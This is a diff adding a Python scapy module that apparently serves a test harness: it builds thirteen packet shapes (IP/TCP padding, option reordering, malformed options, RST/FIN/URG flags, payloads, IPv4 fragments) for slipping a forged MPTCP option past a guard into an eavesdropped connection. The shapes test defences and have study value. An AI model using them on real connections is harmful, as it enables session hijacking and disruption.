@@ -1,0 +1,138 @@
+"""Packet shapes an attacker tries to get a forged MPTCP option accepted in.
+
+Each shape is a plain function of the forged pure ACK that ``attacks.segment_after``
+builds (scapy IP/TCP: the eavesdropped sequence numbers and timestamps, one MPTCP
+option after NOP NOP TIMESTAMP) and the option's bytes; it returns the packets to
+send. Linux acts on an MPTCP option in every one of these shapes (platform notes); a
+guard that checks only short pure ACKs misses all but ``plain``. Sources: RFC 6181,
+RFC 7430 and the kernel's tcp_parse_options() (it stops at a malformed option, having
+used those before it; it ignores what follows EOL).
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+KIND_MPTCP = 30
+# A DSS with only a 32-bit data ACK (flags A): what a real pure ACK carries before a signal.
+DSS_ACK_ONLY = bytes([KIND_MPTCP, 8, 0x20, 0x01]) + b"\0\0\0\0"
+UNKNOWN_SUBTYPE = bytes([KIND_MPTCP, 4, 0xF0, 0])  # unassigned subtype 0xf: Linux ignores it
+PAYLOAD = b"forged!!"
+
+
+def _with_options(base, options: list, **tcp_fields):
+    """``base`` with its TCP options replaced (timestamps kept first) and fields changed."""
+    from scapy.layers.inet import IP, TCP
+
+    pkt = base.copy()
+    ts = [o for o in pkt[TCP].options if o[0] in ("NOP", "Timestamp")]
+    pkt[TCP].options = ts + options
+    for name, value in tcp_fields.items():
+        setattr(pkt[TCP], name, value)
+    del pkt[IP].len, pkt[IP].chksum, pkt[TCP].chksum, pkt[TCP].dataofs
+    return pkt
+
+
+def _opt(option: bytes) -> tuple:
+    return (option[0], option[2:])
+
+
+def plain(base, option: bytes) -> list:
+    """The pure ACK itself: the shape the first guard checked."""
+    return [_with_options(base, [_opt(option)])]
+
+
+def ip_options(base, option: bytes) -> list:
+    """Padded to 100 bytes and more: 40 bytes of IPv4 options (NOPs), and TCP NOPs."""
+    from scapy.layers.inet import IP, IPOption
+
+    pkt = tcp_nops(base, option)[0]
+    pkt[IP].options = [IPOption(b"\x01" * 39 + b"\x00")]
+    del pkt[IP].ihl
+    return [pkt]
+
+
+def tcp_nops(base, option: bytes) -> list:
+    """The option after NOPs that fill the TCP option space."""
+    pad = 40 - 12 - len(option)
+    return [_with_options(base, [("NOP", None)] * pad + [_opt(option)])]
+
+
+def behind_dss(base, option: bytes) -> list:
+    """After a DSS data ACK, where Linux itself puts RM_ADDR and MP_PRIO."""
+    return [_with_options(base, [_opt(DSS_ACK_ONLY), _opt(option)])]
+
+
+def before_dss(base, option: bytes) -> list:
+    return [_with_options(base, [_opt(option), _opt(DSS_ACK_ONLY)])]
+
+
+def behind_unknown(base, option: bytes) -> list:
+    """After an unassigned MPTCP subtype: a first-option match sees only that one."""
+    return [_with_options(base, [_opt(UNKNOWN_SUBTYPE), _opt(option)])]
+
+
+def malformed_after(base, option: bytes) -> list:
+    """The option, then an option whose length runs past the header: a parser that
+    raises on it must not let the packet through, as Linux has used the option before."""
+    from scapy.layers.inet import IP, TCP
+
+    pkt = IP(bytes(_with_options(base, [_opt(option), (0xFE, b"")])))
+    ihl = pkt[IP].ihl * 4
+    raw = bytearray(bytes(pkt))
+    at = ihl + 20 + 12 + len(option)  # after NOP NOP TIMESTAMP and the option
+    if raw[at] != 0xFE:
+        raise ValueError("unexpected option layout")
+    raw[at + 1] = 0x7F
+    broken = IP(bytes(raw))
+    del broken[TCP].chksum
+    return [IP(bytes(broken))]
+
+
+def rst(base, option: bytes) -> list:
+    """On an RST (the legitimate carrier of MP_FASTCLOSE)."""
+    return [_with_options(base, [_opt(option)], flags="RA")]
+
+
+def fin(base, option: bytes) -> list:
+    return [_with_options(base, [_opt(option)], flags="FA")]
+
+
+def psh(base, option: bytes) -> list:
+    return [_with_options(base, [_opt(option)], flags="PA")]
+
+
+def urg(base, option: bytes) -> list:
+    return [_with_options(base, [_opt(option)], flags="UA", urgptr=1)]
+
+
+def payload(base, option: bytes) -> list:
+    """Carrying data (a data-level mapping is not needed for the option to be read)."""
+    from scapy.packet import Raw
+
+    return [_with_options(base, [_opt(option)], flags="PA") / Raw(PAYLOAD)]
+
+
+def fragments(base, option: bytes) -> list:
+    """The pure ACK in IPv4 fragments of 8 bytes: Linux reassembles them and acts."""
+    from scapy.layers.inet import fragment
+
+    pkt = _with_options(base, [_opt(option)])
+    return fragment(pkt.__class__(bytes(pkt)), fragsize=8)
+
+
+SHAPES: dict[str, Callable] = {
+    "plain": plain,
+    "ip_options": ip_options,
+    "tcp_nops": tcp_nops,
+    "behind_dss": behind_dss,
+    "before_dss": before_dss,
+    "behind_unknown": behind_unknown,
+    "malformed_after": malformed_after,
+    "psh": psh,
+    "urg": urg,
+    "payload": payload,
+    "fragments": fragments,
+    "fin": fin,
+    "rst": rst,
+}
